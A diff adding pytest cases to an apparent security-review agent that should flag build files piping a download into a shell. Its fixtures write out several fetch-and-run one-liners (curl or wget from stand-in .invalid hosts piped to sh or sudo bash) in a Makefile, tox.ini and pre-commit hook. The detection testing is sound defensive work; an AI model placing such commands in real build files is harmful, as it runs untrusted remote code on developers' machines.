@@ -250,6 +250,44 @@ def test_fullwidth_letters_in_strings_and_comments_are_left_alone(tmp_path):
     result.assert_verdict("PASS")
 
 
+BUILD_RULE = "security.semgrep.build-download-piped-to-shell"
+
+
+@pytest.mark.parametrize(
+    ("path", "text"),
+    [
+        ("Makefile", "install:\n\tcurl -sSL http://get.example.invalid/setup.sh | sh\n"),
+        ("docs/Makefile", "html:\n\twget -qO- http://get.example.invalid/x | sudo bash\n"),
+        ("tox.ini", "[testenv]\ncommands_pre = sh -c 'curl -s http://x.invalid/a | bash'\n"),
+        (".pre-commit-config.yaml", "repos:\n  - repo: local\n    hooks:\n      - id: s\n"
+         "        entry: sh -c 'curl -s http://x.invalid/a | sh'\n        language: system\n"),
+    ],
+)  # fmt: skip
+def test_a_build_file_that_pipes_a_download_into_a_shell_asks_a_lead(tmp_path, path, text):
+    """Round-4 red team: make install, tox and pre-commit ran a downloaded script: PASS."""
+    repo = make_repo(tmp_path / "r", {"README.md": "x\n"}, {path: text})
+    result = run_agents(repo.change(), [SecurityAgent], config=SEMGREP_ONLY)
+    finding = result.assert_finding(BUILD_RULE, path=path)
+    assert finding.severity == "medium" and finding.on_changed_line
+    result.assert_verdict("CONDITIONAL_PASS")
+
+
+@pytest.mark.parametrize(
+    ("path", "text"),
+    [
+        ("Makefile", "dist:\n\tcurl -sSLo dist/x.tgz http://get.example.invalid/x.tgz\n"),
+        ("tox.ini", "[testenv]\ncommands = pytest {posargs}\n"),
+        ("notes/NotAMakefile", "curl -s http://get.example.invalid/x | sh\n"),  # not a build file
+    ],
+)
+def test_ordinary_build_files_pass(tmp_path, path, text):
+    repo = make_repo(tmp_path / "r", {"README.md": "x\n"}, {path: text})
+    config = {"agents": {"security": {"skip": ["bandit", "zizmor"]}}}
+    result = run_agents(repo.change(), [SecurityAgent], config=config)
+    result.assert_verdict("PASS")
+    assert not [f for f in result.findings if f.rule_id == BUILD_RULE]
+
+
 def test_secret_values_never_appear_in_the_report(vulnerable):
     text = vulnerable.report.model_dump_json()
     assert "wJalrXUtnFEMI" not in text
